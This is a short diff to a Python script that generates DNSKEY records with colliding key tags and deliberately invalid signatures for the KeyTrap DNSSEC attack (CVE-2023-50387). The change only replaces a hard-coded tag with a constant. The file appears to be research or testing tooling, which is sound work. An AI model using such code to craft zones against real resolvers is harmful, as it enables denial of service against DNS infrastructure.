@@ -56,6 +56,7 @@ class Zone:
 P256 = 2 ** 256 - 2 ** 224 + 2 ** 192 + 2 ** 96 - 1  # the field of ECDSAP256SHA256
 BASE = (0x6b17d1f2e12c4247f8bce6e563a440f277037d812deb33a0f4a13945d898c296,
         0x4fe342e2fe1a7f9b8ee7eb4a7c0f9e162bce33576b315ececbb6406837bf51f5)
+COLLIDING_TAG = 4711
 FREE_FLAGS = 0xfe7e  # of a DNSKEY: neither zone key, nor revoked, nor secure entry point (RFC 4034 2.1.1)
 
 
@@ -78,7 +79,7 @@ def key_tag(flags, key):
     return (total + (total >> 16)) & 0xffff
 
 
-def colliding_keys(count, tag=4711):
+def colliding_keys(count, tag=COLLIDING_TAG):
     """DNSKEY records of one tag (KeyTrap, CVE-2023-50387): flags that mean nothing make up the difference."""
     found = []
     for key in public_keys():
@@ -89,7 +90,7 @@ def colliding_keys(count, tag=4711):
             return "".join(found)
 
 
-def colliding_signatures(zone, count, tag=4711):
+def colliding_signatures(zone, count, tag=COLLIDING_TAG):
     """Signatures of the A records of host, all wrong, by any of those keys."""
     now = time.time()
     begin, end = (time.strftime("%Y%m%d%H%M%S", time.gmtime(now + days * DAY)) for days in (-1, 10))
